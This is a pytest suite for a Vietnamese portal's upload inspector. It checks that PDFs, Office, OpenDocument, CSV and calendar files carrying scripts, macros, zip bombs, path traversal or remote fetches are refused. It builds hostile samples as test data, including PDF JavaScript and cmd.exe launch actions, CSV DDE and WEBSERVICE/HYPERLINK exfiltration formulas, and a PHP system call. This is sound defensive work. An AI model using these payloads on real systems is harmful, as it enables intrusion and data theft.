"""Attachments: what is taken, what is refused, and in which words."""

import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.findings.finding import CannotRun, Finding, Place
from portal.read.attachment import inspect_attachment, title_of
from portal.read.tree import SourceFile

BASE = "/tin-bai/van-phong/2024-03-05-hoi-khoe/"
OPEN = "application/vnd.openxmlformats-officedocument."
TIES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MAIN = {
    "docx": f"{OPEN}wordprocessingml.document.main+xml",
    "xlsx": f"{OPEN}spreadsheetml.sheet.main+xml",
    "pptx": f"{OPEN}presentationml.presentation.main+xml",
}
ODF = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

Parts = dict[str, bytes]


def put(folder: Path, name: str, data: bytes) -> SourceFile:
    real = folder / name
    real.write_bytes(data)
    info = real.stat()
    path = f"content{BASE}{name}"
    return SourceFile(path, str(real), info.st_size, info.st_mtime_ns, info.st_ctime_ns, info.st_ino)


def told(folder: Path, name: str, data: bytes) -> tuple[Finding, ...]:
    """The findings; a record comes exactly when none is an error."""
    attachment, findings = inspect_attachment(put(folder, name, data), BASE, None)
    assert (attachment is None) == any(finding.severity == "error" for finding in findings)
    return findings


def said(folder: Path, name: str, data: bytes) -> list[tuple[str, str]]:
    start = f"Tệp “{name}” "
    return [(finding.code, finding.message.removeprefix(start)) for finding in told(folder, name, data)]


def zipped(parts: Parts) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def ooxml(ending: str, extra: Parts | None = None, types: str = "") -> bytes:
    listed = f'<Override PartName="/main.xml" ContentType="{MAIN[ending]}"/>{types}'
    schema = "http://schemas.openxmlformats.org/package/2006/content-types"
    return zipped(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{schema}">{listed}</Types>'.encode(),
            "_rels/.rels": ties(),
            "main.xml": b"<w:document xmlns:w='w'/>",
            **(extra or {}),
        }
    )


def ties(kind: str = "officeDocument", target: str = "main.xml", mode: str = "Internal") -> bytes:
    schema = "http://schemas.openxmlformats.org/package/2006/relationships"
    tie = f'<Relationship Id="r1" Type="{TIES}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{schema}">{tie}</Relationships>'.encode()


def odf(ending: str, extra: Parts | None = None) -> bytes:
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{ODF[ending]}".encode(),
            "content.xml": b"<office:document-content xmlns:office='o'/>",
            "META-INF/manifest.xml": b"<manifest:manifest xmlns:manifest='m'/>",
            **(extra or {}),
        }
    )


def pdf(catalog: bytes = b"", objects: bytes = b"", trailer: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + objects
    at = len(body)
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        trailer,
        at,
    )


def stream(keys: bytes, body: bytes, number: int = 7) -> bytes:
    return b"%d 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, keys, len(body), body)


def whole(ending: str) -> bytes:
    """An honest file of each kind."""
    texts = {
        "csv": "STT,Trường,Số lớp\n1,Tiểu học A,-\n2,Tiểu học B,-5\n".encode(),
        "ics": b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n",
        "txt": "BM: bảng mã\nMột dòng.\n".encode(),
        "pdf": pdf(),
    }
    if ending in texts:
        return texts[ending]
    return ooxml(ending) if ending in MAIN else odf(ending)


@pytest.mark.parametrize("ending", ["pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp", "csv", "ics", "txt"])
def test_an_honest_file_of_each_kind_is_taken(tmp_path: Path, ending: str) -> None:
    data = whole(ending)

    attachment, findings = inspect_attachment(put(tmp_path, f"mau-don.{ending}", data), BASE, None)

    assert () == findings
    assert attachment is not None
    assert (f"mau-don.{ending}", f"{BASE}mau-don.{ending}", "Mau don", ending.upper(), len(data)) == (
        attachment.file,
        attachment.address,
        attachment.title,
        attachment.type,
        attachment.size_bytes,
    )
    assert 32 == len(attachment.digest)


def test_the_authors_title_goes_before_the_files_name(tmp_path: Path) -> None:
    attachment, _ = inspect_attachment(put(tmp_path, "mau-01.txt", b"x"), BASE, "Mẫu số 01")

    assert attachment is not None
    assert "Mẫu số 01" == attachment.title


def test_a_title_is_made_of_the_files_name() -> None:
    assert ["Mau don 01 2024", "A"] == [title_of("mau-don_01-2024.docx"), title_of("a.pdf")]


ENDINGS = ["pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp"]


@pytest.mark.parametrize("inside", ENDINGS)
@pytest.mark.parametrize("ending", [*ENDINGS, "csv", "ics", "txt"])
def test_a_file_of_another_kind_than_its_ending_is_told(tmp_path: Path, ending: str, inside: str) -> None:
    findings = told(tmp_path, f"a.{ending}", whole(inside))

    assert (["DL-08"] if ending != inside else []) == [finding.code for finding in findings]


def test_a_spreadsheet_called_a_document_is_told_by_its_name(tmp_path: Path) -> None:
    assert [("DL-08", "mang đuôi “.docx” nhưng bên trong là XLSX.")] == said(tmp_path, "a.docx", ooxml("xlsx"))


@pytest.mark.parametrize(
    ("name", "data", "word"),
    [
        ("a.docx", OLE, "tài liệu Office đời cũ (doc, xls, ppt)"),
        ("a.docx", b"{\\rtf1 a}", "tài liệu RTF"),
        ("a.pdf", b"<!DOCTYPE html><p>404", "trang HTML"),
        ("a.pdf", b"\n%PDF-1.7\n", "văn bản thường"),
        ("a.xlsx", b"<html><table></table></html>", "trang HTML"),
        ("a.txt", b"\xef\xbb\xbf \n<ScRiPt>alert(1)</script>", "trang HTML"),
        ("a.csv", b"<!-- x --><html>", "trang HTML"),
        ("a.ics", b"<html>BEGIN:VCALENDAR", "trang HTML"),
        ("a.txt", b"<svg onload='x'>", "ảnh SVG"),
        ("a.txt", b"<?php system('id');", "tập lệnh PHP"),
        ("a.txt", b"\xff\xd8\xff\xe0", "ảnh JPEG"),
        ("a.docx", b"MZ\x90\x00\x03", "chương trình Windows"),
        ("a.odt", b"Rar!\x1a\x07", "gói nén RAR"),
    ],
)
def test_what_is_inside_is_named(tmp_path: Path, name: str, data: bytes, word: str) -> None:
    expected = [("DL-08", f"mang đuôi “.{name[2:]}” nhưng bên trong là {word}.")]

    assert expected == said(tmp_path, name, data)


def test_an_empty_file_is_told(tmp_path: Path) -> None:
    assert [("DL-08", "rỗng (0 byte).")] == said(tmp_path, "a.pdf", b"")


def test_weight_is_warned_of_then_refused(tmp_path: Path) -> None:
    (warned,) = told(tmp_path, "a.txt", b"a" * 10_000_001)
    (refused,) = told(tmp_path, "b.txt", b"a" * 25_000_001)

    assert ("DL-10", "warning", "Tệp “a.txt” nặng 10,1 MB, nên dưới 10 MB.") == (
        warned.code,
        warned.severity,
        warned.message,
    )
    assert ("DL-10", "error", "Tệp “b.txt” nặng 25,1 MB, nhiều nhất 25 MB.") == (
        refused.code,
        refused.severity,
        refused.message,
    )


def test_a_file_exchanged_for_a_link_after_the_scan_is_not_followed(tmp_path: Path) -> None:
    file = put(tmp_path, "a.txt", b"x")
    os.remove(file.real)
    os.symlink("/etc/passwd", file.real)

    with pytest.raises(CannotRun):
        inspect_attachment(file, BASE, None)


SCRIPT = "chứa mã lệnh JavaScript."


@pytest.mark.parametrize(
    ("catalog", "word"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", SCRIPT),
        (b"/OpenAction << /S/J#61vaScript /J#53 (x) >>", SCRIPT),
        (b"/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>", SCRIPT),
        (b"/OpenAction << /S /Rendition /JS 5 0 R >>", SCRIPT),
        (b"/Names << /JavaScript 4 0 R >>", SCRIPT),
        (b"/X (stream\nendstream) /OpenAction << /JS (x) >>", SCRIPT),
        (b"/X 1 % >>stream\n /OpenAction << /S /JavaScript >> %endstream\n", SCRIPT),
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", "chứa lệnh chạy chương trình."),
        (b"/Names << /EmbeddedFiles 4 0 R >>", "chứa tệp khác nhúng bên trong."),
        (b"/AF [ << /Type /Filespec /EF << /F 9 0 R >> >> ]", "chứa tệp khác nhúng bên trong."),
        (b"/Annots [ << /Subtype /RichMedia >> ]", "chứa nội dung đa phương tiện tự chạy."),
        (b"/AA << /WC 5 0 R >>", "chứa lệnh tự chạy khi mở trang."),
        (b"/A#41 << /O 5 0 R >>", "chứa lệnh tự chạy khi mở trang."),
        (b"/AcroForm << /XFA 5 0 R >>", "chứa biểu mẫu động XFA."),
    ],
)
def test_what_acts_by_itself_in_a_pdf_is_refused(tmp_path: Path, catalog: bytes, word: str) -> None:
    assert [("DL-09", word)] == said(tmp_path, "a.pdf", pdf(catalog))


def test_a_locked_pdf_is_refused(tmp_path: Path) -> None:
    locked = pdf(trailer=b"/Encrypt 9 0 R")

    assert [("DL-09", "đặt mật khẩu hoặc khóa quyền.")] == said(tmp_path, "a.pdf", locked)


@pytest.mark.parametrize("body", [b"4 0 << /S /JavaScript /JS (x) >>", b"4 0 << /S /J#61vaScript /JS (x) >>"])
@pytest.mark.parametrize("keys", [b"/Type /ObjStm /N 1 /First 4", b"/Type/Obj#53tm/#4E 1/Firs#74 4"])
def test_a_script_in_a_deflated_list_of_objects_is_found(tmp_path: Path, keys: bytes, body: bytes) -> None:
    packed = pdf(objects=stream(keys + b" /Filter /FlateDecode", zlib.compress(body)))

    assert b"JavaScript" not in packed
    assert [("DL-09", SCRIPT)] == said(tmp_path, "a.pdf", packed)


def test_a_list_whose_dictionary_seems_to_begin_later_is_read_in_full(tmp_path: Path) -> None:
    keys = b"/N 1 /First 4 /X (9 0 obj <<) /Filter /FlateDecode"
    packed = pdf(objects=stream(keys, zlib.compress(b"4 0 << /JS (x) >>" + b" " * 5_000)))
    later = pdf(objects=stream(keys, zlib.compress(b"% " + b"x" * 5_000 + b"\n4 0 << /JS (x) >>")))

    assert [("DL-09", SCRIPT)] == said(tmp_path, "a.pdf", packed)
    assert [("DL-09", SCRIPT)] == said(tmp_path, "b.pdf", later)


def test_a_short_name_in_a_deflated_list_of_objects_is_found(tmp_path: Path) -> None:
    body = zlib.compress(b"4 0 << /AA << /O 5 0 R >> >>")
    packed = pdf(objects=stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", body))

    assert [("DL-09", "chứa lệnh tự chạy khi mở trang.")] == said(tmp_path, "a.pdf", packed)


def test_a_list_of_objects_is_known_by_what_it_holds_when_its_dictionary_hides(tmp_path: Path) -> None:
    keys = b"/N 1 /First 4 /X (stream\nendstream) /Filter /FlateDecode"
    packed = pdf(objects=stream(keys, zlib.compress(b"4 0 << /S /JavaScript >>")))

    assert [("DL-09", SCRIPT)] == said(tmp_path, "a.pdf", packed)


@pytest.mark.parametrize("filters", [b"/ASCIIHexDecode", b"[/ASCII85Decode /FlateDecode]", b"/LZWD#65code"])
def test_a_list_of_objects_packed_otherwise_is_refused_unread(tmp_path: Path, filters: bytes) -> None:
    packed = pdf(objects=stream(b"/Type /ObjStm /N 1 /First 4 /Filter " + filters, b"34203020>"))

    expected = [("DL-09", "nén danh mục đối tượng theo cách cổng không kiểm tra được.")]
    assert expected == said(tmp_path, "a.pdf", packed)


def test_a_list_of_objects_that_does_not_inflate_is_broken(tmp_path: Path) -> None:
    packed = pdf(objects=stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"khong nen"))

    assert [("DL-08", "hỏng: có phần nén không mở được.")] == said(tmp_path, "a.pdf", packed)


def test_a_list_of_objects_that_swells_is_refused(tmp_path: Path) -> None:
    bomb = zlib.compress(b"4 0 " + b" " * 9_000_000)
    packed = pdf(objects=stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb))

    assert [("DL-10", "bung ra gấp quá 100 lần dung lượng của nó.")] == said(tmp_path, "a.pdf", packed)


def test_letters_of_a_picture_or_a_page_are_not_taken_for_commands(tmp_path: Path) -> None:
    picture = stream(b"/Subtype /Image /Filter /DCTDecode", b"\xff\xd8 /JS /AA /EF \xff\xd9", 7)
    page = stream(b"/Filter /FlateDecode", zlib.compress(b"BT /AA 12 Tf (JavaScript /JS) Tj ET"), 8)
    outline = b"9 0 obj << /Type /Outlines /First 3 0 R >> endobj\n"
    profile = stream(b"/N 3 /Filter [/ASCII85Decode /FlateDecode]", b"abc~>", 10)
    honest = pdf(b"/OpenAction [3 0 R /FitH null]", picture + page + outline + profile)

    assert [] == said(tmp_path, "a.pdf", honest)


@pytest.mark.parametrize(
    "objects",
    [
        b"3 0 obj << /Title (HTML/CSS/JavaScript) >> endobj\n",
        b"3 0 obj << /S /URI /URI (https://vi-du.example/a%20b/JavaScript) >> endobj\n",
        stream(b"/Type /Metadata", b"<dc:title>HTML/JavaScript</dc:title>"),
        stream(b"/Length 30", b"1 0 0 1 0 0 cm BT (HTML/JavaScript) Tj ET"),
        stream(b"/Filter /FlateDecode", zlib.compress(b"1 0 0 1 0 0 cm BT [(a) 5 (b)] TJ (a/JavaScript) Tj ET")),
    ],
)
def test_a_lesson_about_scripts_is_taken(tmp_path: Path, objects: bytes) -> None:
    assert [] == said(tmp_path, "a.pdf", pdf(objects=objects))


@pytest.mark.parametrize(
    "objects",
    [
        b"3 0 obj << /X <41 (42> /S /JavaScript /JS 5 0 R /Y <41 )42> >> endobj\n",
        b"3 0 obj << /X (a\n) /S /JavaScript /Y (b) >> endobj\n",
        b"3 0 obj << /X (a \\\\) /S /JavaScript /Y (b) >> endobj\n",
        stream(b"", b"(5 0 obj << /JS (x) >> endobj)"),
        stream(b"", b"4 0 obj%x\n<< /#4aS 5 0 R >> endobj"),
    ],
)
def test_a_script_among_strings_or_in_a_stream_is_found(tmp_path: Path, objects: bytes) -> None:
    assert [("DL-09", SCRIPT)] == said(tmp_path, "a.pdf", pdf(objects=objects))


def test_a_pdf_made_by_pillow_is_taken(tmp_path: Path) -> None:
    file = io.BytesIO()
    Image.new("RGB", (300, 300), (200, 10, 10)).save(file, "PDF")

    assert [] == said(tmp_path, "a.pdf", file.getvalue())


def test_a_pdf_cut_off_is_told(tmp_path: Path) -> None:
    assert [("DL-08", "bị cụt: không có phần kết thúc của PDF.")] == said(tmp_path, "a.pdf", pdf()[:-8])


def test_a_pdf_with_a_package_behind_it_is_refused(tmp_path: Path) -> None:
    both = pdf() + ooxml("docx")

    assert [("DL-08", "có dữ liệu lạ nối sau phần kết thúc của PDF.")] == said(tmp_path, "a.pdf", both)


MACRO = "chứa macro hoặc điều khiển tự chạy."


@pytest.mark.parametrize(
    ("extra", "types"),
    [
        ({"word/vbaProject.bin": b"x"}, ""),
        ({"WORD/VBAPROJECT.BIN": b"x"}, ""),
        ({"word/vbaData.xml": b"<a/>"}, ""),
        ({}, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        ({}, '<Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        ({}, '<Default Extension="xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
        ({}, '<Default Extension="xml" ContentType="application/vnd.ms-office.activeX+xml"/>'),
        ({"word/embeddings/oleObject1.bin": OLE + "_VBA_PROJECT".encode("utf-16-le")}, ""),
        ({"word/embeddings/b.xlsx": ooxml("xlsx", {"xl/vbaProject.bin": b"x"})}, ""),
    ],
)
def test_macros_in_a_word_file_are_refused(tmp_path: Path, extra: Parts, types: str) -> None:
    assert [("DL-09", MACRO)] == said(tmp_path, "a.docx", ooxml("docx", extra, types))


def test_a_macro_document_called_docx_is_told_as_one(tmp_path: Path) -> None:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = f"<Types><Override PartName='/w.xml' ContentType='{kind}'/></Types>".encode()
    data = zipped({"[Content_Types].xml": types, "word/vbaProject.bin": b"x"})

    assert [("DL-09", MACRO)] == said(tmp_path, "a.docx", data)


@pytest.mark.parametrize(
    ("kind", "word"),
    [
        ("attachedTemplate", "lấy mẫu (template) từ nơi khác."),
        ("oleObject", "gắn đối tượng OLE ở nơi khác."),
        ("frame", "nhúng trang ở nơi khác."),
        ("subDocument", "nhúng tài liệu con ở nơi khác."),
        ("gi-do", "tự lấy nội dung từ nơi khác."),
    ],
)
def test_what_is_fetched_on_opening_is_refused(tmp_path: Path, kind: str, word: str) -> None:
    extra = {"word/_rels/settings.xml.rels": ties(kind, "https://vi-du.example/x.dotm", "External")}

    assert [("DL-09", word)] == said(tmp_path, "a.docx", ooxml("docx", extra))


def test_a_picture_on_another_machine_is_refused_and_one_on_the_web_warned_of(tmp_path: Path) -> None:
    share = {"word/_rels/document.xml.rels": ties("image", r"\\may-khac\anh.png", "External")}
    web = {"word/_rels/document.xml.rels": ties("image", "https://vi-du.example/anh.png", "External")}

    refused = told(tmp_path, "a.docx", ooxml("docx", share))
    warned = told(tmp_path, "b.docx", ooxml("docx", web))

    assert [("DL-09", "error")] == [(finding.code, finding.severity) for finding in refused]
    assert [("DL-09", "warning")] == [(finding.code, finding.severity) for finding in warned]


def test_links_charts_and_equations_are_taken(tmp_path: Path) -> None:
    extra = {
        "word/_rels/document.xml.rels": ties("hyperlink", "https://vi-du.example/", "External"),
        "word/embeddings/bieu-do.xlsx": ooxml("xlsx"),
        "word/embeddings/oleObject1.bin": OLE + "Equation Native".encode("utf-16-le"),
    }

    assert [] == said(tmp_path, "a.docx", ooxml("docx", extra))


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (OLE + "\x01Ole10Native".encode("utf-16-le"), "chứa tệp khác nhúng bên trong."),
        (zipped({"a.txt": b"x"}), "chứa gói nén nhúng bên trong."),
        (b"MZ\x90\x00\x03", "chứa chương trình Windows nhúng bên trong."),
    ],
)
def test_files_packed_into_a_document_are_refused(tmp_path: Path, data: bytes, word: str) -> None:
    assert [("DL-09", word)] == said(tmp_path, "a.docx", ooxml("docx", {"word/embeddings/a.bin": data}))


def test_a_document_under_a_password_is_refused(tmp_path: Path) -> None:
    locked = OLE + "EncryptedPackage".encode("utf-16-le")

    assert [("DL-09", "đặt mật khẩu.")] == said(tmp_path, "a.docx", locked)


def test_a_locked_entry_is_refused(tmp_path: Path) -> None:
    data = bytearray(ooxml("docx"))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1

    assert [("DL-09", "đặt mật khẩu.")] == said(tmp_path, "a.docx", bytes(data))


@pytest.mark.parametrize("name", ["../a.xml", "word/../../a.xml", "/etc/a.xml", "C:\\a.xml", "..\\a.xml", "word/.."])
def test_an_entry_that_leads_outside_is_refused(tmp_path: Path, name: str) -> None:
    expected = [("DL-09", "chứa tệp con có đường dẫn dẫn ra ngoài gói.")]

    assert expected == said(tmp_path, "a.docx", ooxml("docx", {name: b"x"}))


def test_two_entries_of_one_name_are_refused(tmp_path: Path) -> None:
    data = ooxml("docx", {"word/a.xml": b"x", "WORD/A.XML": b"y"})

    assert [("DL-08", "hỏng: có hai tệp con trùng tên.")] == said(tmp_path, "a.docx", data)


def test_an_entry_packed_as_no_office_packs_is_refused(tmp_path: Path) -> None:
    file = io.BytesIO(ooxml("docx"))
    with zipfile.ZipFile(file, "a") as package:
        package.writestr("word/a.xml", b"x" * 100, zipfile.ZIP_BZIP2)

    expected = [("DL-08", "nén theo cách mà tài liệu văn phòng không dùng.")]
    assert expected == said(tmp_path, "a.docx", file.getvalue())


def test_a_directory_of_very_many_entries_is_refused_before_it_is_read(tmp_path: Path) -> None:
    data = ooxml("docx") + b"PK\x01\x02" * 20_001

    assert [("DL-10", "chứa quá 2000 tệp con.")] == said(tmp_path, "a.docx", data)


def test_an_entry_with_dots_in_its_name_is_taken(tmp_path: Path) -> None:
    assert [] == said(tmp_path, "a.docx", ooxml("docx", {"word/a..b.xml": b"<a/>", "word/...x": b""}))


def test_a_package_of_too_many_entries_is_refused(tmp_path: Path) -> None:
    many = {f"word/{n}.xml": b"" for n in range(2_000)}

    assert [("DL-10", "chứa 2003 tệp con, nhiều nhất 2000.")] == said(tmp_path, "a.docx", ooxml("docx", many))


@pytest.mark.parametrize("name", ["a.docx", "a.odt"])
def test_a_package_that_swells_is_refused(tmp_path: Path, name: str) -> None:
    bomb = {"word/media/a.bin": bytes(5_000_000)}
    data = ooxml("docx", bomb) if name == "a.docx" else odf("odt", bomb)

    assert [("DL-10", "bung ra gấp quá 100 lần dung lượng của nó.")] == said(tmp_path, name, data)


def test_more_than_two_hundred_megabytes_are_refused_whatever_the_ratio(tmp_path: Path) -> None:
    ballast = os.urandom(2_200_000)
    data = ooxml("docx", {"a": ballast} | {f"b{n}": bytes(20_000_000) for n in range(11)})

    assert [("DL-10", "bung ra quá 200 MB.")] == said(tmp_path, "a.docx", data)


def test_a_size_that_lies_in_the_header_is_not_believed(tmp_path: Path) -> None:
    honest = ooxml("docx", {"word/a.xml": bytes(50_000)})
    packed = bytearray(honest)
    at = packed.rindex(b"PK\x01\x02")
    struct.pack_into("<I", packed, at + 24, 10)

    assert [("DL-08", "hỏng: gói nén bên trong không mở được.")] == said(tmp_path, "a.docx", bytes(packed))


def test_lists_of_too_many_tags_are_refused_before_they_are_parsed(tmp_path: Path) -> None:
    ballast = os.urandom(400_000)
    lists = {f"word/_rels/{n}.rels": b"<a>" + b"<b/>" * 120_000 + b"</a>" for n in range(9)}

    expected = [("DL-10", "chứa quá 1 triệu thẻ và thuộc tính XML cần xem xét.")]
    assert expected == said(tmp_path, "a.docx", ooxml("docx", {"a.bin": ballast, **lists}))


def test_packages_nested_too_deep_are_refused(tmp_path: Path) -> None:
    data = ooxml("xlsx")
    for _ in range(3):
        data = ooxml("xlsx", {"xl/embeddings/a.xlsx": data})

    assert [("DL-10", "lồng gói nén quá 2 lớp.")] == said(tmp_path, "a.xlsx", data)


def test_a_bomb_in_a_nested_package_counts_for_the_whole(tmp_path: Path) -> None:
    inner = ooxml("xlsx", {"xl/a.xml": bytes(5_000_000)})

    assert ["DL-10"] == [code for code, _ in said(tmp_path, "a.docx", ooxml("docx", {"word/embeddings/a.xlsx": inner}))]


@pytest.mark.parametrize("part", ["[Content_Types].xml", "word/_rels/document.xml.rels"])
@pytest.mark.parametrize("xml", [b"<a", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", b"\xff\xfe\x00", b""])
def test_a_list_that_is_no_plain_xml_is_told(tmp_path: Path, part: str, xml: bytes) -> None:
    assert [("DL-08", "hỏng: có phần XML không đọc được.")] == said(tmp_path, "a.docx", ooxml("docx", {part: xml}))


def test_a_package_that_is_no_document_is_told(tmp_path: Path) -> None:
    expected = [("DL-08", "mang đuôi “.docx” nhưng bên trong là gói nén không phải tài liệu văn phòng.")]

    assert expected == said(tmp_path, "a.docx", zipped({"a.txt": b"x"}))


@pytest.mark.parametrize(
    ("extra", "word"),
    [
        ({"Basic/Standard/Module1.xml": b"<a/>"}, "chứa macro."),
        ({"Scripts/python/a.py": b"x"}, "chứa macro."),
        ({"META-INF/manifest.xml": b"<m><file-entry><encryption-data/></file-entry></m>"}, "đặt mật khẩu."),
        ({"content.xml": b"<d xmlns:x='x'><object x:href='http://a.example/b'/></d>"}, "gắn đối tượng nằm ở nơi khác."),
        ({"content.xml": b"<d xmlns:x='x'><object x:href='&#47;/a.example/b'/></d>"}, "gắn đối tượng nằm ở nơi khác."),
        ({"content.xml": b"<d xmlns:x='x'><event-listener x:href='vnd.sun.star.script:a'/></d>"}, "chứa macro."),
    ],
)
def test_what_acts_by_itself_in_an_opendocument_file_is_refused(tmp_path: Path, extra: Parts, word: str) -> None:
    assert [("DL-09", word)] == said(tmp_path, "a.odt", odf("odt", extra))


def test_empty_macro_libraries_and_plain_links_are_taken(tmp_path: Path) -> None:
    extra = {
        "Basic/script-lc.xml": b"<a/>",
        "Basic/Standard/script-lb.xml": b"<a/>",
        "content.xml": b"<d xmlns:x='x'><a x:href='https://a.example/'/><image x:href='Pictures/1.png'/></d>",
    }

    assert [] == said(tmp_path, "a.odt", odf("odt", extra))


@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    st.sampled_from(["pdf", "docx", "odt", "csv", "ics"]),
    st.lists(st.tuples(st.integers(0, 3000), st.integers(0, 255)), max_size=8),
    st.integers(0, 3000),
)
def test_bytes_changed_or_cut_anywhere_never_crash(
    tmp_path: Path, ending: str, changes: list[tuple[int, int]], kept: int
) -> None:
    data = bytearray(whole(ending))
    for at, value in changes:
        data[at % len(data)] = value

    findings = told(tmp_path, f"a.{ending}", bytes(data[: kept + 1]))

    assert {finding.code for finding in findings} <= {"DL-08", "DL-09", "DL-10"}


def test_a_text_in_an_old_encoding_is_told_with_its_line(tmp_path: Path) -> None:
    (finding,) = told(tmp_path, "a.txt", b"mot\nhai \xcd\xca\n")

    assert "Tệp “a.txt” có dòng 2 chưa ở bảng mã UTF-8." == finding.message
    assert Place(f"content{BASE}a.txt", 2, 1) == finding.place


def test_a_text_in_utf_16_is_told(tmp_path: Path) -> None:
    assert ["DL-08"] == [code for code, _ in said(tmp_path, "a.csv", "a\tb\n".encode("utf-16"))]


def test_a_control_character_is_told_at_its_place(tmp_path: Path) -> None:
    (finding,) = told(tmp_path, "a.txt", "mộ\nhai\x00 ba".encode())

    assert ("DL-08", 2, 4) == (finding.code, finding.place.line, finding.place.col)


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"VERSION:2.0\n", "không phải lịch: dòng đầu không phải BEGIN:VCALENDAR."),
        (b"BEGIN:VCALENDAR\nVERSION:2.0\n", "bị cụt: dòng cuối không phải END:VCALENDAR."),
    ],
)
def test_a_calendar_begins_and_ends(tmp_path: Path, data: bytes, word: str) -> None:
    assert [("DL-08", word)] == said(tmp_path, "a.ics", data)


@pytest.mark.parametrize("cell", ["=1+A2", "+A1*2", "-SUM(A1)", "@SUM(A1)"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_cell_that_is_a_formula_is_warned_of_at_its_line(tmp_path: Path, cell: str, delimiter: str) -> None:
    (finding,) = told(tmp_path, "a.csv", f"STT{delimiter}Tên\n1{delimiter}{cell}\n".encode())

    assert ("DL-09", "warning", 2) == (finding.code, finding.severity, finding.place.line)
    assert "có 1 ô mở đầu bằng = + - @" in finding.message


@pytest.mark.parametrize(
    "cell",
    ["=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "@dde(1)", '"=HYPERLINK(""https://a.example?""&A1)"', "=WEBSERVICE(A1)"],
)
def test_a_cell_that_starts_a_program_or_sends_data_away_is_refused_at_its_line(tmp_path: Path, cell: str) -> None:
    (finding,) = told(tmp_path, "a.csv", f"STT,Tên\n1,{cell}\n".encode())

    assert ("DL-09", "error", 2) == (finding.code, finding.severity, finding.place.line)


def test_a_calendar_that_starts_a_program_is_refused(tmp_path: Path) -> None:
    data = b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\naction:procedure\r\nEND:VALARM\r\nEND:VCALENDAR\r\n"

    assert [("DL-09", "chứa lệnh chạy chương trình (ACTION:PROCEDURE).")] == said(tmp_path, "a.ics", data)


def test_a_cell_that_never_ends_is_told_at_its_line(tmp_path: Path) -> None:
    (finding,) = told(tmp_path, "a.csv", b'a,b\n"' + b"x" * 200_000 + b'"\n')

    assert "Tệp “a.csv” hỏng ở dòng 2: không đọc được thành bảng." == finding.message
    assert 2 == finding.place.line


@pytest.mark.parametrize(("data", "line"), [(b"a\n" + b"," * 16_384, 2), (b"a\n" * 1_048_577, 1_048_577)])
def test_a_table_larger_than_any_spreadsheet_is_refused(tmp_path: Path, data: bytes, line: int) -> None:
    (finding,) = told(tmp_path, "a.csv", data)

    assert ("DL-10", "error", line) == (finding.code, finding.severity, finding.place.line)


def test_dashes_numbers_and_telephone_numbers_are_no_formulas(tmp_path: Path) -> None:
    assert [] == said(tmp_path, "a.csv", b'a,-,-5,+84 24 3869 5144,"-1,5",- \n')
